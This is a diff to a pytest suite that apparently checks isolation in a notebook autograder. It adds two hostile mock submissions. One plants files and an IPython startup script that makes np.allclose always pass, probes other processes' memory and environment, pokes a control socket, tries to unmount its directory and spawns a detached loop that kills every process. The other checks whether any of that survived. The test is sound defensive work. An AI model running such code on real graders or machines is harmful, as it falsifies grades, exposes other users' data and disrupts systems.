@@ -247,6 +247,95 @@ except SystemExit:
     print("posix._exit refused")
 os.kill(os.getpid(), signal.SIGKILL)
 """,
+    # -- one kernel against the next (kernels are forked from one preloaded process) ---------
+    "zygote_1_plants": """
+import ctypes, glob, os, signal, socket, subprocess, sys
+planted = []
+def plant(folder):
+    try:
+        path = os.path.join(folder, "{token}-planted")
+        with open(path, "w") as f:
+            f.write("import numpy as np\\nnp.allclose = lambda *a, **k: True\\n")
+        planted.append(path)
+    except Exception:
+        pass
+writable = [line.split()[4] for line in open("/proc/self/mountinfo")
+            if "ro" not in line.split()[5].split(",")]
+for top in writable:
+    if not top.startswith(("/proc", "/sys")):
+        for folder, _, _ in os.walk(top):
+            plant(folder)
+for folder in ["/tmp", "/dev/shm", os.getcwd(), os.path.expanduser("~"), *sys.path]:
+    plant(folder)
+startup = os.path.expanduser("~/.ipython/profile_default/startup")
+try:
+    os.makedirs(startup, exist_ok=True)
+    with open(startup + "/00-help.py", "w") as f:
+        f.write("import numpy as np\\nnp.allclose = lambda *a, **k: True\\n")
+    planted.append(startup)
+except Exception:
+    pass
+print("planted", len(planted))
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+key = libc.syscall(248, b"user", b"{token}", b"x", 1, -4)  # add_key to the user keyring
+print("key added" if key > 0 else "no key")
+me = os.readlink("/proc/self")  # its own number where /proc counts (not necessarily getpid)
+for pid in [p for p in os.listdir("/proc") if p.isdigit() and p not in (me, str(os.getpid()))]:
+    for what in ("mem", "root/", "fd/", "environ", "cwd/"):
+        try:
+            if what == "mem":
+                open(f"/proc/{pid}/mem", "r+b").close()
+            elif what == "environ":
+                open(f"/proc/{pid}/environ").read()
+            else:
+                os.listdir(f"/proc/{pid}/{what}")
+            print("REACHED", pid, what)
+        except Exception:
+            pass
+from ipykernel import get_connection_file
+run = os.path.dirname(get_connection_file())
+for path in glob.glob(os.path.join(run, "..", "..", "*")) + [os.path.join(run, "..", "..", "control.sock")]:
+    try:
+        s = socket.socket(socket.AF_UNIX)
+        s.connect(path)
+        s.sendall(b'{"job_dir": "/tmp", "argv": ["-m", "ipykernel_launcher"], "work": "/tmp", "limits": {}}\\n')
+        print("REACHED control", path)
+    except Exception:
+        pass
+top = os.path.realpath(os.path.join(run, "..", ".."))
+if libc.umount2(top.encode(), 2) == 0:
+    print("REACHED umount")
+if libc.unshare(0x10000000 | 0x00020000) == 0 and libc.umount2(top.encode(), 2) == 0:
+    print("REACHED umount in a new namespace")
+print("left", os.listdir(top))
+subprocess.Popen([sys.executable, "-c", "import os, signal, time  # {token}\\n"
+                  "end = time.time() + 120\\n"
+                  "while time.time() < end:\\n"
+                  "    for p in os.listdir('/proc'):\\n"
+                  "        if p.isdigit() and int(p) != os.getpid():\\n"
+                  "            try: os.kill(int(p), signal.SIGKILL)\\n"
+                  "            except Exception: pass\\n"
+                  "    time.sleep(0.05)\\n"], start_new_session=True)
+""",
+    "zygote_2_looks": """
+import ctypes, os, sys, numpy as np
+found = []
+skip = ("/proc", "/sys", "/usr", os.path.realpath(sys.prefix), os.path.realpath(np.__file__ + "/../.."))
+for folder, subs, files in os.walk("/"):
+    subs[:] = [s for s in subs if not os.path.join(folder, s).startswith(skip)]
+    found += [os.path.join(folder, f) for f in files if "{token}" in f]
+startup = os.path.expanduser("~/.ipython/profile_default/startup")
+if os.path.isdir(startup) and set(os.listdir(startup)) - {"README"}:  # IPython writes README
+    found.append(startup)
+if np.allclose(0.0, 1.0):
+    found.append("np.allclose patched")
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+if libc.syscall(249, b"user", b"{token}", None, 0) > 0:  # request_key
+    found.append("key")
+print("looked;", "FOUND " + repr(found) if found else "found nothing")
+""",
 }
 #: students whose submission is changed beyond the answer cell
 NOTEBOOK_ATTACKS = ("schema_version_99", "invented_grade_cell", "fake_package_folder")
@@ -254,7 +343,7 @@ NOTEBOOK_ATTACKS = ("schema_version_99", "invented_grade_cell", "fake_package_fo
 UNDER_LOAD = ("patch_numpy", "ipython_transformers", "clones_reference_bytecode",
               "reads_source_and_gradebook", "writes_gradebook_and_classmates",
               "detached_processes", "kills_its_own_kernel", "schema_version_99",
-              "infinite_loop_in_answer")
+              "infinite_loop_in_answer", "zygote_1_plants", "zygote_2_looks")
 HONEST = ("honest_a", "honest_b")
 
 
@@ -449,3 +538,20 @@ def test_reading_attempts_found_nothing(quiet):
     printed = "".join(o.get("text", "") for o in cell(nb, TARGET).outputs)
     assert "no canary" in printed and "honest_a" not in printed, printed[:2000]
     assert json.dumps(nbg(cell(nb, TARGET)))  # the cell kept its (restored) metadata
+
+
+@pytest.mark.parametrize("batch_name", ["quiet", "loaded"])
+def test_no_kernel_reaches_the_next_or_the_process_it_was_forked_from(request, batch_name):
+    batch = request.getfixturevalue(batch_name)
+
+    def printed(student):
+        nb = read(batch["root"] / "autograded" / student / CH / f"{CH}.ipynb")
+        return "".join(o.get("text", "") for o in cell(nb, TARGET).outputs)
+
+    plants, looks = printed("zygote_1_plants"), printed("zygote_2_looks")
+    assert "planted" in plants and "left" in plants, plants[:2000]
+    assert int(plants.split("planted", 1)[1].split()[0]) >= 3, plants[:500]  # it could write
+    assert "REACHED" not in plants, plants[:3000]
+    assert "looked; found nothing" in looks, looks[:3000]
+    log = batch["log"]  # graded in this order, by the same grading process
+    assert log.index("zygote_1_plants") < log.index("zygote_2_looks")
